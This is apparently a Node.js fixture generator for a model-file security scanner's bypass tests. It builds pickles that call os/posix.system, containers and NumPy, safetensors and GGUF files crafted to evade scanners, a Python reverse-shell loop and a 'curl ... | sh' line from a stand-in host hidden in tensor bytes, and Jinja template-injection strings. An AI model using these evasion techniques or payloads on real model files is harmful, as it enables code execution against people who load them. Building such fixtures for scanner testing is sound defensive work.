#!/usr/bin/env node
// Builds testdata/bypass/: one file per scanner-bypass class of issue 14 (published picklescan /
// modelscan / fickling / modelaudit advisories and our own variations), deterministic, no Python.
// Pickles are written as raw opcodes and never unpickled. What each file must produce is asserted
// in test/weights/bypass.test.ts. Usage: node testdata/make-bypass-fixtures.mjs [outDir]
import {mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import path from 'node:path'
import {deflateSync, gzipSync} from 'node:zlib'

import {bytesOf, cat, enc, gaussian, gguf, safetensors, shortUni, zip} from './lib/weight-writers.mjs'

const here = path.dirname(new URL(import.meta.url).pathname)
const out = process.argv[2] ?? path.join(here, 'bypass')
mkdirSync(out, {recursive: true})
const write = (name, bytes) => writeFileSync(path.join(out, name), bytes)
const ELF = readFileSync(path.join(here, 'weights', 'tiny.elf'))
const T = (name, dtype, shape, ta) => ({name, dtype, shape, bytes: bytesOf(ta)})

// ---------- pickle argument parsing (CPython semantics) ----------
const reduceId = cat(shortUni('id'), [0x85], 'R.')
// GET/PUT indices written the way int() reads them: whitespace, signs, underscores, leading zeros.
write('memo-int-style.pkl', cat([0x80, 4], shortUni('os'), 'p  +1\n0', shortUni('system'), 'p0_2\n0', 'g001 \n', 'g\t2\n', [0x93], reduceId))
// STRING operands with escape_decode escapes (\x, octal) — the raw text says neither "os" nor "system".
write('string-escapes.pkl', cat([0x80, 4], "S'\\x6fs'\n", "S'sys\\164em'\n", [0x93], reduceId))
// UNICODE operands with raw-unicode-escape \u / \U escapes.
write('unicode-escapes.pkl', cat([0x80, 4], 'V\\u006f\\U00000073\n', 'Vsy\\u0073tem\n', [0x93], reduceId))
// Protocol-4 dotted name: find_class walks attributes, argparse._os is the os module.
write('dotted-argparse-os.pkl', cat([0x80, 4], shortUni('argparse'), shortUni('_os.system'), [0x93], reduceId))
write('dotted-collections-sys.pkl', cat([0x80, 4], shortUni('collections'), shortUni('_sys.modules'), [0x93], '.'))
// fix_imports (protocol < 3): Python 2 module names renamed before the import.
write('fix-imports-py2-module.pkl', cat([0x80, 2], 'cSocketServer\nTCPServer\n', ')R.'))
// A stream may start with any opcode: no PROTO, no MARK — and named like a weight blob.
write('starts-with-unicode.bin', cat('Vos\nVsystem\n', [0x93], 'Vid\n', [0x85], 'R.'))
write('starts-with-mark-inst.pt', cat("(S'id'\nios\nsystem\n."))
// The payload is in the second stream: loaders that call load() again (or reuse the Unpickler) run it.
write('second-stream.pkl', cat([0x80, 2], '}q\x00.', [0x80, 2], 'cposix\nsystem\nq\x00', shortUni('id'), [0x85], 'R.'))
// The memo of the first stream feeds the second (a reused Unpickler keeps its memo).
write('memo-across-streams.pkl', cat([0x80, 4], shortUni('posix'), [0x94], shortUni('system'), [0x94], '0.', [0x80, 4], 'h', [0], 'h', [1], [0x93], reduceId))
// copyreg extension registry: the import is a number, invisible to name checks.
write('ext-registry.pkl', cat([0x80, 2], [0x82, 0x07], ')R.'))

// ---------- pickles not named .pkl, containers ----------
const osSystem = cat([0x80, 2], 'cposix\nsystem\nq\x00', shortUni('echo modelseal-test-payload'), [0x85], 'R.')
const statePkl = cat([0x80, 2], 'ccollections\nOrderedDict\nq\x00)Rq\x01.')
const _tensorBytes = bytesOf(gaussian(1024, 140))
const torchMembers = [
  {name: 'archive/data.pkl', data: statePkl},
  {name: 'archive/byteorder', data: enc('little')},
  {name: 'archive/version', data: enc('3\n')},
]
write('torch-extra-json-member.pt', zip([...torchMembers, {name: 'archive/extra/config.json', data: osSystem}]))
write(
  'torch-junk-prepended.pt',
  cat(enc('#!junk before the archive\n'), Buffer.alloc(100, 0x41), zip([{name: 'archive/data.pkl', data: osSystem}, torchMembers[2]])),
)
write('pickle-then-zip-polyglot.pt', cat(osSystem, zip(torchMembers)))
write(
  'zip-pickle-any-name.zip',
  zip([
    {name: 'model/weights.dat', data: osSystem},
    {name: 'model/README', data: enc('a model\n')},
  ]),
)
write('zip-in-zip.zip', zip([{name: 'inner.zip', data: zip([{name: 'deep/blob', data: osSystem}])}]))
write('pickle.pkl.gz', gzipSync(osSystem, {level: 9, mtime: 0}))
write('pickle.z', deflateSync(osSystem, {level: 9}))

function tar(members) {
  const blocks = []
  for (const m of members) {
    const h = Buffer.alloc(512)
    h.write(m.name, 0, 'utf8')
    h.write('0000644\0', 100)
    h.write('0000000\0', 108)
    h.write('0000000\0', 116)
    h.write(`${m.data.length.toString(8).padStart(11, '0')}\0`, 124)
    h.write('00000000000\0', 136)
    h.write('        ', 148)
    h.write('0', 156)
    h.write('ustar\0', 257)
    h.write('00', 263)
    let sum = 0
    for (const x of h) sum += x
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
    blocks.push(h, Buffer.from(m.data), Buffer.alloc((512 - (m.data.length % 512)) % 512))
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}
write(
  'model.tar',
  tar([
    {name: 'model/config.json', data: enc('{"a": 1}\n')},
    {name: 'model/pytorch_model.bin', data: osSystem},
  ]),
)
write('model.tar.gz', gzipSync(tar([{name: 'checkpoint/weights.pt', data: zip([{name: 'archive/data.pkl', data: osSystem}])}]), {level: 9, mtime: 0}))
// Content modelseal cannot open: never reported clean.
write('wrapped.7z', cat([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4], Buffer.alloc(56, 0x11)))
/** Sets the "encrypted" flag bit of the first member (local header and central directory). */
function flagEncrypted(z) {
  const cd = z.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  z.writeUInt16LE(z.readUInt16LE(6) | 1, 6)
  z.writeUInt16LE(z.readUInt16LE(cd + 8) | 1, cd + 8)
  return z
}
// CVE-2025-1945: the flag bit alone hides a plain pickle from scanners that skip "encrypted" members.
write('encrypted-flag-pickle.pt', flagEncrypted(zip([{name: 'archive/data.pkl', data: osSystem}, torchMembers[2]])))
// Really unreadable content behind the flag: not scanned, so never clean.
write('encrypted-member.zip', flagEncrypted(zip([{name: 'secret.bin', data: Buffer.from(Array.from({length: 256}, (_, i) => (i * 167 + 13) & 0xff))}])))
// Data descriptor (bit 3) whose sizes disagree with the central directory: readers disagree on the member.
const desc = zip([{name: 'archive/data.pkl', data: osSystem}, torchMembers[2]])
const cdAt = desc.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))
desc.writeUInt16LE(8, 6)
desc.writeUInt16LE(8, cdAt + 8)
write('descriptor-mismatch.pt', desc)

// A local entry the central directory does not list: streaming readers see it, zipfile does not.
{
  const z = zip([...torchMembers, {name: 'archive/hidden.pkl', data: osSystem}])
  const eocd = z.length - 22
  const cdSize = z.readUInt32LE(eocd + 12)
  const cdStart = z.readUInt32LE(eocd + 16)
  const last = z.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]), eocd)
  const end = Buffer.from(z.subarray(eocd))
  end.writeUInt16LE(torchMembers.length, 8)
  end.writeUInt16LE(torchMembers.length, 10)
  end.writeUInt32LE(cdSize - (eocd - last), 12)
  end.writeUInt32LE(cdStart, 16)
  write('zip-hidden-local-entry.pt', Buffer.concat([z.subarray(0, last), end]))
}

// ---------- NumPy headers with Python-literal semantics ----------
function npyRaw(header, data) {
  let h = header
  const total = 10 + h.length + 1
  h += ' '.repeat((64 - (total % 64)) % 64) + '\n'
  const hb = Buffer.alloc(10)
  hb.set([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1, 0])
  hb.writeUInt16LE(h.length, 8)
  return Buffer.concat([hb, Buffer.from(h, 'latin1'), Buffer.from(data)])
}
write('npy-double-quotes-object.npy', npyRaw('{"descr": "|O", "fortran_order": False, "shape": (1,), }', osSystem))
write('npy-duplicate-descr.npy', npyRaw("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }", osSystem))
write(
  'npy-nested-object-field.npy',
  npyRaw("{'descr': [('x', '<f4'), ('inner', [('a', '<i4'), ('payload', '|O')])], 'fortran_order': False, 'shape': (1,), }", osSystem),
)
write('npy-subarray-object.npy', npyRaw("{'descr': [('cells', 'O', (2,))], 'fortran_order': False, 'shape': (1,), }", osSystem))
write('npy-concatenated-descr.npy', npyRaw("{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }", osSystem))

// ---------- weight payloads ----------
// An ELF split across 16 small tensors: no tensor holds a whole header, the joined low bytes do.
{
  const parts = []
  const per = 96
  for (let k = 0; k < 16; k++) {
    const w = gaussian(per, 200 + k)
    const b = bytesOf(w)
    for (let e = 0; e < per; e++) {
      const p = k * per + e
      if (p < ELF.length) b[e * 4] = ELF[p]
    }
    parts.push(T(`blocks.${k}.weight`, 'F32', [per], w))
  }
  write('elf-across-tensors.safetensors', safetensors(parts))
}
// Text hidden in the low bytes of 24 small tensors (each far below one 4096-element window).
{
  const text = enc(
    'import os, socket, subprocess\ndef run(host, port):\n    s = socket.socket(); s.connect((host, port))\n    while True: subprocess.run(s.recv(1024), shell=True)\n'.repeat(
      200,
    ),
  )
  const parts = []
  let p = 0
  for (let k = 0; k < 24; k++) {
    const w = gaussian(1000, 300 + k)
    const b = bytesOf(w)
    for (let e = 0; e < 1000 && p < text.length; e++) b[e * 4] = text[p++]
    parts.push(T(`layers.${k}.attn.weight`, 'F32', [1000], w))
  }
  write('text-across-small-tensors.safetensors', safetensors(parts))
}
// XOR-obfuscated payload: the low bytes are neither printable nor zero, but far from random.
{
  const text = enc('#!/bin/sh\ncurl -s http://collector.example/x | sh\n'.repeat(700))
  const w = gaussian(32768, 400)
  const b = bytesOf(w)
  for (let e = 0; e < text.length && e < 32768; e++) b[e * 4] = text[e] ^ 0xa7
  write('xor-payload.safetensors', safetensors([T('enc.weight', 'F32', [32768], w)]))
}
write(
  'metadata-base64-elf.safetensors',
  safetensors([T('w', 'F32', [64], gaussian(64, 500))], {metadata: {format: 'pt', notes: `training notes: ${Buffer.from(ELF).toString('base64')}`}}),
)
write('metadata-hex-pickle.safetensors', safetensors([T('w', 'F32', [64], gaussian(64, 501))], {metadata: {format: 'pt', blob: osSystem.toString('hex')}}))

// ---------- GGUF ----------
const chatml =
  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
const ggTensors = [
  {name: 'token_embd.weight', dims: [64, 64], type: 0, data: bytesOf(gaussian(4096, 600))},
  {name: 'output_norm.weight', dims: [10], type: 0, data: bytesOf(gaussian(10, 601))},
]
const baseKv = [
  ['general.architecture', 8, 'llama'],
  ['general.alignment', 4, 32],
]
{
  // The last tensor holds 40 bytes; the 24 bytes of padding after it carry data instead of zeros.
  const g = gguf([...baseKv, ['tokenizer.chat_template', 8, chatml]], ggTensors)
  g.set(enc('stash:modelseal-test-pad'), g.length - 24)
  write('gguf-nonzero-padding.gguf', g)
}
write('gguf-trailing-data.gguf', cat(gguf([...baseKv, ['tokenizer.chat_template', 8, chatml]], ggTensors), ELF))
const ssti = {
  concat: "{{ messages['__cl' ~ 'ass__'] }}",
  join: "{{ messages[['_','_','glo','bals','_','_']|join] }}",
  lower: "{{ cycler_ish[('__INIT__'|lower)] }}",
  attr: "{{ messages|attr('_' * 2 ~ 'class' ~ '_' * 2) }}",
  setvar: "{% set a = '__subcl' %}{% set b = a ~ 'asses__' %}{{ ''[b] }}",
  escapes: "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
  reversed: "{{ messages['__ssalc__'[::-1]] }}",
}
const tiny = [{name: 'token_embd.weight', dims: [16, 16], type: 0, data: bytesOf(gaussian(256, 602))}]
for (const [k, t] of Object.entries(ssti)) write(`gguf-ssti-${k}.gguf`, gguf([...baseKv, ['tokenizer.chat_template', 8, t + chatml]], tiny))

// ---------- engine: content, not names ----------
write('notes.txt', osSystem)
console.log(`bypass fixtures written to ${out}`)
